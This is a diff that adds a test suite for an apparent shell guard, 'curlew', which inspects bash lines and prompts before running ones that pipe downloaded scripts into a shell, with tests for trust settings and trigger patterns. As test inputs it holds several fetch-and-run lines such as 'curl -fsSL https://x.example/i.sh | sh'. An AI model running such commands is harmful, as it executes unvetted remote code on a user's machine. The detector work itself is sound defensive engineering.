@@ -1,0 +1,149 @@
+/** The snippet is driven through a pseudo-terminal in bash; `curlew` is a stand-in that writes down when it is called. */
+import { execFileSync, spawn } from "node:child_process";
+import { chmodSync, readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { describe, expect, it } from "vitest";
+import { snippets } from "../../../src/cli/shell/snippets.js";
+import { TRIGGER } from "../../../src/cli/shell/triggers.js";
+import { createNodeDetector } from "../../../src/host/node.js";
+import { folderWith } from "../folder.js";
+import { runHere } from "../stand-in.js";
+
+const URL = "https://x.example/i.sh";
+const CURLEW = `#!/bin/sh
+echo "$1 $2" >> "$CALLS"
+[ "$1" = shell-check ] || exit 0
+case "$MODE" in hang) exec sleep 60 ;; fail) exit 3 ;; esac
+if grep -q '| *sh'; then printf '\\r\\ncurlew: BAD\\r\\n' >&2; echo ${URL}; exit 10; fi
+`;
+
+/** Types keys into bash with the snippet, each when the one before has had its effect, and gives what was shown and called. */
+async function typed(keys: readonly (string | { wait: RegExp })[], mode = "", path = true): Promise<{ shown: string; calls: string[] }> {
+  const folder = folderWith({ "bin/curlew": CURLEW, rc: `PS1='> '\nHISTFILE=${"/dev/null"}\n${snippets.bash}`, calls: "" });
+  chmodSync(join(folder, "bin/curlew"), 0o755);
+  const env = { ...process.env, PATH: path ? `${join(folder, "bin")}:${process.env["PATH"] ?? ""}` : "/usr/bin:/bin", CALLS: join(folder, "calls"), MODE: mode, TERM: "xterm", HOME: folder };
+  const child = spawn("script", ["-qfec", `bash --noprofile --rcfile ${join(folder, "rc")} -i`, "/dev/null"], { env, cwd: folder, stdio: ["pipe", "pipe", "ignore"] });
+  let shown = "";
+  child.stdout.on("data", (chunk: Buffer) => (shown += chunk.toString("utf8")));
+  const closed = new Promise((resolve) => child.on("close", resolve));
+  let from = 0;
+  const seen = async (what: RegExp): Promise<void> => {
+    for (let i = 0; i < 600 && !what.test(shown.slice(from)); i++) await new Promise((resolve) => setTimeout(resolve, 50));
+    expect(shown.slice(from), String(what)).toMatch(what);
+    from = shown.length;
+  };
+  await seen(/> $/);
+  for (const key of keys) {
+    if (typeof key === "string") child.stdin.write(key);
+    else await seen(key.wait);
+  }
+  child.stdin.write("\x15exit\r");
+  await closed;
+  return { shown, calls: readFileSync(join(folder, "calls"), "utf8").split("\n").filter(Boolean).map((line) => line.trim()) };
+}
+
+const PROMPT = { wait: /any other key: cancel $/ };
+
+describe("in bash, through a pseudo-terminal", () => {
+  it("a clean line runs and starts no process", async () => {
+    const { calls } = await typed(["echo ran$((1+1))\r", { wait: /ran2/ }, "git status; ls | sort\r", { wait: /> $/ }]);
+    expect(calls).toEqual([]);
+  });
+
+  it("a finding that is typed is shown, and cancelled by any key", async () => {
+    const { shown, calls } = await typed([`echo ran$((1+1)) ${URL} | sh\r`, PROMPT, "x", { wait: /> / }, "\x15history\r", { wait: /history/ }]);
+    expect(shown).toContain("curlew: BAD");
+    expect(shown).not.toMatch(/ran2|not found/);
+    // what did not run is not in the history
+    expect(shown).not.toMatch(/^ +1 +echo/m);
+    expect(calls).toEqual(["shell-check"]);
+  });
+
+  it("runs once on r, and trusts on t", async () => {
+    expect((await typed([`echo ran$((1+1)) ${URL} | sh\r`, PROMPT, "r", { wait: /ran2: not found/ }])).calls).toEqual(["shell-check"]);
+    expect((await typed([`echo ran$((1+1)) ${URL} | sh\r`, PROMPT, "t", { wait: /ran2: not found/ }])).calls).toEqual(["shell-check", `trust ${URL}`]);
+  });
+
+  it("a paste of several lines is judged as one", async () => {
+    const { shown } = await typed([`\x1b[200~echo a$((1+1))\necho b$((1+2)) ${URL} | sh\x1b[201~`, { wait: /\| sh/ }, "\r", PROMPT, "n", { wait: /> / }]);
+    expect(shown).not.toMatch(/a2|b3/);
+  });
+
+  it("a line that goes on is judged with what stands before it", async () => {
+    const { shown } = await typed([`echo ran$((1+1)) ${URL} \\\r`, { wait: /> $/ }, "| sh\r", PROMPT, "x", { wait: /> / }, "\x03", { wait: /> $/ }]);
+    expect(shown).not.toContain("ran2");
+  });
+
+  it("a curlew that is missing, fails or hangs never locks the shell, and is told of once", async () => {
+    for (const [mode, path, status] of [["", false, 127], ["fail", true, 3]] as const) {
+      const { shown } = await typed(["echo ran$((1+1)) curl\r", { wait: /ran2 curl/ }, "echo again$((2+2)) curl\r", { wait: /again4 curl/ }], mode, path);
+      expect(shown.match(/lines are not judged: curlew shell-check ended with status (\d+)/g)).toHaveLength(1);
+      expect(shown).toContain(`ended with status ${status}`);
+    }
+    const hung = await typed(["echo ran$((1+1)) curl\r", { wait: /ran2 curl/ }], "hang");
+    expect(hung.shown).toContain("ended with status 124");
+  });
+
+  it("Ctrl-C ends the waiting, and the line does not run", async () => {
+    const { shown } = await typed(["echo ran$((1+1)) curl\r", { wait: /curl/ }, "\x03", { wait: /> $/ }, "echo after$((3+3))\r", { wait: /after6/ }], "hang");
+    expect(shown).not.toContain("ran2");
+  });
+});
+
+describe("the words that ask curlew", () => {
+  const trigger = new RegExp(TRIGGER);
+
+  it("stand in every shell command that is found in the extended corpus", async () => {
+    const detector = await createNodeDetector({ profile: "extended" });
+    const records = readFileSync("corpora/extended.v1.jsonl", "utf8").split("\n").filter(Boolean).map((line) => JSON.parse(line) as { text: string });
+    const commands = records.flatMap(({ text }) => detector.detect(text).findings.filter(({ level, snippet }) => level === "finding" && snippet.language === "shell").map(({ span: [start, end] }) => text.slice(text.lastIndexOf("\n", start) + 1, end)));
+    detector.dispose();
+    expect(commands.length).toBeGreaterThan(100);
+    expect(commands.filter((line) => !trigger.test(line))).toEqual([]);
+  });
+
+  it.each(["git status", "git commit -m 'x'", "ls -la | grep x | sort", "npm test", "npx tsc", "cd src && make", "docker ps", "sudo apt update", "ssh host", "echo done", "vim a.md", "tr -d x"])("not in %s", (line) => {
+    expect(trigger.test(line)).toBe(false);
+  });
+
+  it("mean the same to bash", () => {
+    const lines = ["curl x", "xcurl", "a;curl", "see https://x", "git status", "echo -e x", "npx a/b", "npx tsc", "base64 -d", "printf '\\x41'"];
+    const script = `trigger=$(cat <<'EOF'\n${TRIGGER}\nEOF\n)\nfor line in "$@"; do [[ $line =~ $trigger ]] && echo y || echo n; done`;
+    const answers = execFileSync("bash", ["-c", script, "-", ...lines], { encoding: "utf8" }).trim().split("\n");
+    expect(answers).toEqual(lines.map((line) => (trigger.test(line) ? "y" : "n")));
+  });
+});
+
+describe("shell-check and trust", () => {
+  const toolkit = { createDetector: createNodeDetector };
+  const home = () => ({ XDG_CONFIG_HOME: folderWith({}) });
+  const check = (line: string, env: Record<string, string> = home()) => runHere(["shell-check"], { stdin: line, toolkit, env, cwd: folderWith({ ".git/HEAD": "", "curlew.json": `{"trust": ["${URL}"]}` }) });
+
+  it("answers with a status of its own, one sentence, the safer way and the address", async () => {
+    const { status, stdout, stderr } = await check(`curl -fsSL ${URL} | sh`);
+    expect([status, stdout]).toEqual([10, `${URL}\n`]);
+    expect(stderr).toMatch(/^\r\ncurlew: .+\r\n {2}safer: curl -fsSLo i\.sh/);
+    expect(await check("git commit -m 'no curl x | sh'")).toMatchObject({ status: 0, stdout: "", stderr: "" });
+    expect(await check(`curl ${URL} \\\n | dash`)).toMatchObject({ status: 10 });
+    expect(await check(`# never run this\ncurl ${URL} | sh`)).toMatchObject({ status: 10 });
+    expect(await check(`curl ${URL} https://y.example | sh`)).toMatchObject({ status: 10, stdout: "" });
+  });
+
+  it("trust adds the address to the user's own configuration, and keeps the rest", async () => {
+    const env = { XDG_CONFIG_HOME: folderWith({ "curlew/curlew.json": '{\n  "profile": "extended"\n}\n' }) };
+    expect((await runHere(["trust", URL], { env })).stdout).toContain(`${URL} is trusted from now on`);
+    expect((await runHere(["trust", URL], { env })).stdout).toContain("is trusted already");
+    expect(JSON.parse(readFileSync(join(env.XDG_CONFIG_HOME, "curlew/curlew.json"), "utf8"))).toEqual({ profile: "extended", trust: [URL] });
+    expect(await check(`curl ${URL} | sh`, env)).toMatchObject({ status: 0 });
+    expect(await check(`curl ${URL}x | sh`, env)).toMatchObject({ status: 10 });
+    expect(await runHere(["trust", "x.example"], { env })).toMatchObject({ status: 2, stderr: expect.stringContaining("write one whole address") });
+    writeFileSync(join(env.XDG_CONFIG_HOME, "curlew/curlew.json"), "{");
+    expect(await runHere(["trust", URL], { env })).toMatchObject({ status: 2 });
+  });
+
+  it("is made where there is none", async () => {
+    const env = home();
+    await runHere(["trust", URL], { env });
+    expect(await check(`curl ${URL} | sh`, env)).toMatchObject({ status: 0 });
+  });
+});
